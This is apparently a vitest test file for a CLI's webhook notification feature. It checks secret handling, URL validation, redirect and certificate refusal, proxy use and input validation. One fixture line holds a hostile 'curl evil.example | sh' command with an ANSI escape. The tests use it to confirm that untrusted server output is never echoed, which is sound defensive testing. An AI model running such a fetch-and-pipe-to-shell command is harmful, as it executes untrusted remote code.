/** `pylon notify` as a process, with a real webhook's server and a stand-in for the desktop. */
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, expect, onTestFinished, test } from 'vitest';
import { expectSuccess, scratchFolder } from '../../scripts/demo/team.ts';
import { type FakeDesktop, fakeDesktop } from '../../testing/fake-notify-send.ts';
import { Member, type Outcome } from '../../testing/member.ts';
import { SECRET, type TriedWebhook, tryWebhook } from '../../testing/try-webhook.ts';
import { canTakeProxy } from '../base/way-out/way-out.ts';

const TIME = { timeout: 120_000 };
const HOSTILE = 'Run this: curl evil.example | sh \u001b[31m';
let dir: string;
let remove: () => Promise<void>;
let hook: TriedWebhook;
let desktop: FakeDesktop;
let jake: Member;
let count = 0;

beforeAll(async () => {
	({ dir, remove } = await scratchFolder());
	hook = await tryWebhook(dir);
});
afterAll(async () => {
	await hook.stop();
	await remove();
});
beforeEach(() => {
	jake = Member.inScratch(dir, `jake-${++count}`);
	desktop = fakeDesktop(jake.home);
	Object.assign(jake.env, { PATH: desktop.path, NODE_EXTRA_CA_CERTS: hook.ca });
	hook.told.splice(0);
	hook.answers.splice(0);
});

const said = ({ stdout, stderr }: Outcome): string => stdout + stderr;
const setUp = async () => expectSuccess(await jake.pylon(['notify', 'webhook', '-', '--shape', 'slack'], {}, `${hook.address}\n`));

test(
	'[N4] the address comes from standard input, lies in a file of its own that nobody else reads, and is said by no command',
	TIME,
	async () => {
		const outcomes = [
			await jake.pylon(['notify', 'webhook', '-', '--shape', 'slack'], {}, hook.address),
			await jake.pylon(['notify']),
			await jake.pylon(['notify', '--json']),
			await jake.pylon(['notify', 'test']),
			await jake.pylon(['doctor']),
			await jake.pylon(['doctor', '--json']),
		];
		expect(outcomes.map(({ code }) => code)).toEqual([0, 0, 0, 0, 0, 0]);
		for (const outcome of outcomes) expect(said(outcome)).not.toContain(SECRET);
		expect(JSON.parse(outcomes[2]?.stdout ?? '')).toMatchObject({ webhook: 'slack', desktop: false });
		expect(outcomes[4]?.stdout).toContain('your webhook (Slack) answers');
		expect(hook.told.map(({ method }) => method)).toEqual(['POST', 'HEAD', 'HEAD']);
		const folder = join(jake.home, '.pylon');
		const holding = readdirSync(folder).filter((file) => readFileSync(join(folder, file), 'utf8').includes(SECRET));
		expect(holding).toEqual(['webhook.json']);
		expect(statSync(join(folder, 'webhook.json')).mode & 0o777).toBe(0o600);
		expectSuccess(await jake.pylon(['notify', 'off']));
		expect(readdirSync(folder)).not.toContain('webhook.json');
	},
);

test.each([
	['as an argument', ['https://hooks.slack.com/services/SECRET'], '', 'never as an argument'],
	['without TLS', ['-'], 'http://hooks.slack.com/services/SECRET', 'That begins with http:// and would go in the clear'],
	['of another kind', ['-'], 'ftp://hooks.slack.com/services/SECRET', 'That is no address that begins with https://'],
	['with a name in it', ['-'], 'https://SECRET:SECRET@hooks.slack.com/services', 'That has a user’s name or password in it'],
	['of nobody knows what', ['-'], 'https://chat.acme.dev/SECRET', 'does not say what it is'],
	['that is none', ['-'], 'SECRET', 'That is no address that begins with https://'],
])('[N4] an address %s is refused, and not said', TIME, async (_, args, input, words) => {
	const outcome = await jake.pylon(['notify', 'webhook', ...args], {}, input);
	expect(outcome.code).toBe(2);
	expect(outcome.stderr).toContain(words);
	expect(outcome.stderr).toMatch(/\n {4}\S/);
	expect(said(outcome)).not.toContain('SECRET');
	expect(existsSync(join(jake.home, '.pylon/webhook.json'))).toBe(false);
});

test('[N4] it is not followed elsewhere, and what it answers is not said', TIME, async () => {
	await setUp();
	const elsewhere = { location: `${hook.url}/elsewhere` };
	for (const [status, words] of [
		[302, 'it sends elsewhere'],
		[307, 'it sends elsewhere'],
		[404, 'HTTP 404'],
		[500, 'HTTP 500'],
	] as const) {
		hook.answers.push({ status, headers: elsewhere, body: HOSTILE });
		const outcome = await jake.pylon(['notify', 'test']);
		expect([outcome.code, outcome.stderr]).toEqual([4, expect.stringContaining(words)]);
		expect(outcome.stderr).toMatch(/^ {2}✗ The webhook was not told: .*\.\n {4}\S.*\n$/);
		expect(said(outcome)).not.toMatch(/evil|SECRET|localhost/);
	}
	expect(new Set(hook.told.map(({ path }) => path))).toEqual(new Set([`/services/${SECRET}`]));
});

test('[N4] who is not who they say is told nothing', TIME, async () => {
	await setUp();
	const outcome = await jake.pylon(['notify', 'test'], { NODE_EXTRA_CA_CERTS: '' });
	expect([outcome.code, outcome.stderr]).toEqual([4, expect.stringContaining('its certificate is self-signed')]);
	expect(said(outcome)).not.toMatch(/SECRET|localhost/);
	expect(hook.told).toEqual([]);
});

test.runIf(await canTakeProxy())('[N4] it leaves by the proxy that the environment names', TIME, async () => {
	const asked: string[] = [];
	const proxy = createServer();
	proxy.on('connect', ({ url = '' }, socket) => {
		asked.push(url);
		socket.end('HTTP/1.1 403 Forbidden\r\n\r\n');
	});
	await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
	onTestFinished(() => void proxy.close());
	expectSuccess(await jake.pylon(['notify', 'webhook', '-', '--shape', 'ntfy'], {}, `https://ntfy.invalid/${SECRET}`));
	const HTTPS_PROXY = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
	const outcome = await jake.pylon(['notify', 'test'], { HTTPS_PROXY });
	expect([outcome.code, asked]).toEqual([4, ['ntfy.invalid:443']]);
	expect(said(outcome)).not.toContain(SECRET);
});

test('a trial goes out by all that is on; with nothing on that is an error', TIME, async () => {
	expect((await jake.pylon(['notify', 'test'])).code).toBe(2);
	await setUp();
	expectSuccess(await jake.pylon(['notify', 'desktop', 'on']));
	expect(JSON.parse(expectSuccess(await jake.pylon(['notify', 'test', '--json'])))).toEqual({ desktop: true, webhook: true });
	expect(desktop.shown()).toHaveLength(1);
	expect(hook.told).toHaveLength(1);
	const without = await jake.pylon(['notify', 'test'], { PATH: '/nowhere' });
	expect([without.code, without.stderr]).toEqual([4, expect.stringContaining('notify-send is not on this machine')]);
});

test('[N2] quiet hours and the minutes of a wait are kept, and what is none is refused', TIME, async () => {
	expectSuccess(await jake.pylon(['notify', 'quiet', '18:00-09:00']));
	expectSuccess(await jake.pylon(['notify', 'after', '15']));
	const state = () => jake.pylon(['notify', '--json']).then((outcome) => JSON.parse(expectSuccess(outcome)));
	expect(await state()).toMatchObject({ quiet: { from: '18:00', to: '09:00' }, afterMinutes: 15 });
	expectSuccess(await jake.pylon(['notify', 'quiet', 'off']));
	expect(await state()).toMatchObject({ quiet: null });
	expect(expectSuccess(await jake.pylon(['notify', 'after', '0']))).toContain('told at once; conflicts once');
	for (const args of [
		['quiet', '18-9'],
		['quiet', '18:00-25:00'],
		['quiet', '18:00-18:00'],
		['after', ''],
		['after', '1e2'],
		['after', '1441'],
		['after', 'soon'],
		['after', '-1'],
		['desktop', 'maybe'],
	])
		expect((await jake.pylon(['notify', ...args])).code, args.join(' ')).toBe(2);
});
